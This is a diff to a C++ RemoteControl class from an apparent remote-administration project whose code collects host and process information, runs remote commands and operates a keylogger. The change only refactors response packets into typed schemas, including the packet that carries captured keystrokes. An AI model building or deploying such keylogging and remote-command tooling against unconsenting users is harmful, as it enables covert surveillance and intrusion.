@@ -1,4 +1,5 @@
 #include "RemoteControl.hpp"
+#include "../protocole/LPTF_Schema.hpp"
 #include <iostream>
 #include <sstream>
 #include <cstdlib>
@@ -7,6 +8,24 @@
 #include <pwd.h>
 #include <ctime>
 
+namespace {
+
+using namespace LPTF::fields;
+
+// Schémas des réponses : champs déclarés dans l'ordre des noms (ordre de la trame)
+using HostInfoSchema = LPTF::MessageSchema<LPTF::MessageType::HOST_INFO_RESPONSE,
+    Architecture, Hostname, OsName, OsVersion, Username>;
+using ProcessListSchema = LPTF::MessageSchema<LPTF::MessageType::PROCESS_LIST_RESPONSE,
+    ProcessCount, ProcessList>;
+using CommandResponseSchema = LPTF::MessageSchema<LPTF::MessageType::EXECUTE_COMMAND_RESPONSE,
+    ExitCode, Output, Timestamp>;
+using KeyloggerDataSchema = LPTF::MessageSchema<LPTF::MessageType::KEYLOGGER_DATA,
+    CapturedKeys, Timestamp>;
+using KeyloggerStatusSchema = LPTF::MessageSchema<LPTF::MessageType::KEYLOGGER_STATUS_RESPONSE,
+    Active, Message, Timestamp>;
+
+} // namespace
+
 RemoteControl::RemoteControl() : keylogger_active_(false) {}
 
 RemoteControl::~RemoteControl() {
@@ -54,15 +73,8 @@ std::string RemoteControl::get_os_info() {
 }
 
 LPTF::LPTF_Packet RemoteControl::create_host_info_response(const HostInfo& info) {
-    LPTF::LPTF_Packet packet(LPTF::MessageType::HOST_INFO_RESPONSE);
-    
-    packet.set_string("hostname", info.hostname);
-    packet.set_string("username", info.username);
-    packet.set_string("os_name", info.os_name);
-    packet.set_string("os_version", info.os_version);
-    packet.set_string("architecture", info.architecture);
-    
-    return packet;
+    return HostInfoSchema::to_packet(HostInfoSchema::Values(
+        info.architecture, info.hostname, info.os_name, info.os_version, info.username));
 }
 
 std::vector<ProcessInfo> RemoteControl::get_process_list() {
@@ -100,19 +112,14 @@ std::vector<ProcessInfo> RemoteControl::get_process_list() {
 }
 
 LPTF::LPTF_Packet RemoteControl::create_process_list_response(const std::vector<ProcessInfo>& processes) {
-    LPTF::LPTF_Packet packet(LPTF::MessageType::PROCESS_LIST_RESPONSE);
-    
-    packet.set_uint32("process_count", processes.size());
-    
     std::ostringstream process_data;
     for (const auto& proc : processes) {
         process_data << proc.pid << "|" << proc.name << "|" 
                     << proc.cpu_usage << "|" << proc.memory_usage << "\n";
     }
     
-    packet.set_string("process_list", process_data.str());
-    
-    return packet;
+    return ProcessListSchema::to_packet(ProcessListSchema::Values(
+        static_cast<uint32_t>(processes.size()), process_data.str()));
 }
 
 std::string RemoteControl::execute_command(const std::string& command) {
@@ -133,13 +140,8 @@ std::string RemoteControl::execute_command(const std::string& command) {
 }
 
 LPTF::LPTF_Packet RemoteControl::create_command_response(const std::string& output, int exit_code) {
-    LPTF::LPTF_Packet packet(LPTF::MessageType::EXECUTE_COMMAND_RESPONSE);
-    
-    packet.set_string("output", output);
-    packet.set_uint32("exit_code", exit_code);
-    packet.set_uint64("timestamp", time(nullptr));
-    
-    return packet;
+    return CommandResponseSchema::to_packet(CommandResponseSchema::Values(
+        static_cast<uint32_t>(exit_code), output, static_cast<uint64_t>(time(nullptr))));
 }
 
 bool RemoteControl::start_keylogger() {
@@ -221,20 +223,11 @@ std::string RemoteControl::get_captured_keys() {
 }
 
 LPTF::LPTF_Packet RemoteControl::create_keylogger_data(const std::string& keys) {
-    LPTF::LPTF_Packet packet(LPTF::MessageType::KEYLOGGER_DATA);
-    
-    packet.set_string("captured_keys", keys);
-    packet.set_uint64("timestamp", time(nullptr));
-    
-    return packet;
+    return KeyloggerDataSchema::to_packet(KeyloggerDataSchema::Values(
+        keys, static_cast<uint64_t>(time(nullptr))));
 }
 
 LPTF::LPTF_Packet RemoteControl::create_keylogger_status_response(bool active, const std::string& message) {
-    LPTF::LPTF_Packet packet(LPTF::MessageType::KEYLOGGER_STATUS_RESPONSE);
-    
-    packet.set_uint32("active", active ? 1 : 0);
-    packet.set_string("message", message);
-    packet.set_uint64("timestamp", time(nullptr));
-    
-    return packet;
+    return KeyloggerStatusSchema::to_packet(KeyloggerStatusSchema::Values(
+        active ? 1u : 0u, message, static_cast<uint64_t>(time(nullptr))));
 }